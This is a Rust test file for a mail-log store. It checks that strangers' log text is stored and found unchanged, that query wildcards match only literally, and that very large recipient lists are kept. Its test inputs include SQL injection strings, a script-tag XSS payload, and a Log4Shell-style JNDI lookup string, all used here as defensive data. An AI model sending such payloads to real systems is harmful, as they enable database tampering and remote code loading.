//! Log text is written by strangers: a store keeps it and finds it, but never executes it.

use crate::fixture::{always, create, found_by, get, key, message, message_with, pages, part_of, recipient};
use mailstitch::{
    model::{Intake, Line, Time, searchable::searchable, transaction::Recipient},
    stitch::{self, Rules},
    store::Store,
    write::merge::merge,
};
use std::collections::BTreeSet;

const TEXTS: [&str; 10] = [
    "'; DROP TABLE transactions; --",
    "\"quoted \\\" and \\ back\"@example.org",
    "nul\0byte@example.org",
    "<script>alert(1)</script>@example.org",
    "{\"query\":{\"match_all\":{}}}",
    "two\nlines\r\n\t\u{1b}[31m",
    "\u{202e}gro.elpmaxe@nna",
    "\u{fffd}\u{fffd}@example.org",
    "%s%n${jndi:ldap://192.0.2.1/a}",
    "grüße@bücher.example",
];

pub async fn text_of_strangers_comes_back_unchanged(store: &dyn Store) {
    for (n, text) in TEXTS.into_iter().enumerate() {
        let t = message_with(&format!("{n}-{text}"), 0, |t| {
            t.email.from.address = Some(text.into());
            t.email.message_id = Some(text.into());
            t.mail.recipients = vec![recipient(text)];
            t.mail.lines[0].text = text.repeat(5_000).into();
        });
        create(store, std::slice::from_ref(&t)).await;
        assert_eq!(get(store, &t.mail.id).await.transaction, t);
        let queue_id = format!("{n}-{text}");
        assert_eq!(found_by(store, &[text]).await, std::slice::from_ref(&queue_id), "{text:?}");
        assert_eq!(store.find(&[key(&queue_id)], always()).await.unwrap().len(), 1, "{text:?}");
    }
    assert_eq!(pages(store, None).await.len(), TEXTS.len());
}

pub async fn wildcards_and_queries_are_only_text(store: &dyn Store) {
    create(store, &[message("4F1", 0)]).await;
    for term in ["*", "%", "_F1", "4F?", "4F1 OR 4F2", "/.*/", "mail.id:*", "sender@*", "' OR 1=1 --"] {
        assert!(found_by(store, &[term]).await.is_empty(), "{term}");
        assert!(store.find(&[key(term)], always()).await.unwrap().is_empty(), "{term}");
        assert!(store.get(&[term.to_owned()]).await.unwrap().is_empty(), "{term}");
    }
}

pub async fn twenty_thousand_recipients_are_kept(store: &dyn Store) {
    const PARTS: u32 = 32;
    let parts: Vec<_> = (0..PARTS)
        .map(|part| {
            let mut t = part_of("4F1", 0, part, PARTS);
            t.email.to.address = (0..625).map(|n| format!("r{part}.{n}@example.org").into()).collect();
            t.mail.recipients = t.email.to.address.iter().map(|address| recipient(address)).collect();
            t
        })
        .collect();
    create(store, &parts).await;
    let found = store.find(&[key("4F1")], always()).await.unwrap();
    assert_eq!(found.iter().map(|stored| stored.transaction.mail.recipients.len()).sum::<usize>(), 20_000);
    assert_eq!(found_by(store, &["R0.624@example.org"]).await, ["4F1"]);
    assert_eq!(pages(store, None).await.len(), 32);
}

pub async fn twelve_thousand_names_of_one_recipient_are_kept(store: &dyn Store) {
    let t = message_with("4F1", 0, |t| {
        t.email.to.address = vec!["team@example.org".into()];
        t.mail.recipients = (0..12_000)
            .map(|n| Recipient { orig_to: Some(format!("r{n}@example.org").into()), ..recipient("team@example.org") })
            .collect();
    });
    create(store, std::slice::from_ref(&t)).await;
    assert_eq!(found_by(store, &["r11999@example.org"]).await, ["4F1"]);
    assert_eq!(get(store, &t.mail.id).await.transaction, t);
}

/// Each sendmail record shares a recipient with the next, so that no part is independent of the recipients of others.
pub async fn twelve_thousand_recipients_of_three_hundred_overlapping_records_are_kept(store: &dyn Store) {
    let mut intake = Intake::default();
    let lines: Vec<Line> = (0..300)
        .map(|n| {
            let to: Vec<String> = (n * 40..=n * 40 + 40).map(|r| format!("<r{r}@example.net>")).collect();
            let text = format!(
                "69T0xL0u004002: to={}, delay=00:00:01, xdelay=00:00:01, mailer=esmtp, pri=120000, \
                 relay=mx.example.net. [198.51.100.25], dsn=4.4.1, stat=Deferred: Connection timed out",
                to.join(",")
            );
            intake.line(Time(1_795_378_800_000 + n * 1000), "mx1", "sm-mta", Some(7), &text).expect("a time of lines")
        })
        .collect();
    let rules = Rules::default();
    let gathered = stitch::gather(&lines, |_| false, &rules);
    merge(store, gathered, &rules).await.unwrap();
    store.refresh().await.unwrap();
    let kept = pages(store, None).await;
    let addresses: BTreeSet<&str> =
        kept.iter().flat_map(|t| &t.mail.recipients).map(|recipient| recipient.address.as_str()).collect();
    assert_eq!(addresses.len(), 12_001);
    for recipient in ["r0@example.net", "r40@example.net", "r6000@example.net", "r12000@example.net"] {
        let found = found_by(store, &[recipient]).await;
        assert!(!found.is_empty() && found.iter().all(|id| id == "69T0xL0u004002"), "{recipient}: {found:?}");
    }
}

/// Values as the fold leaves them, and as an older version did.
pub async fn values_of_any_length_are_taken_and_found_by_their_beginning(store: &dyn Store) {
    for (n, long) in ["x".repeat(1025), "ü".repeat(20_000), "😀".repeat(40_000)].into_iter().enumerate() {
        let with = |queue_id: &str, value: &str| {
            message_with(queue_id, n as i64, |t| {
                t.email.message_id = Some(value.into());
                t.mail.helo = Some(value.into());
                t.mail.recipients = vec![Recipient { reply: Some(value.into()), ..recipient(value) }];
            })
        };
        let (cut, whole) = (format!("4F{n}"), format!("4E{n}"));
        create(store, &[with(&cut, searchable(&long)), with(&whole, &long)]).await;
        assert_eq!(found_by(store, &[&long]).await, std::slice::from_ref(&cut), "{n}");
        assert_eq!(found_by(store, &[&format!("<{}>", searchable(&long))]).await, [cut], "{n}");
        assert_eq!(store.find(&[key(&whole)], always()).await.unwrap().len(), 1, "{n}");
    }
}
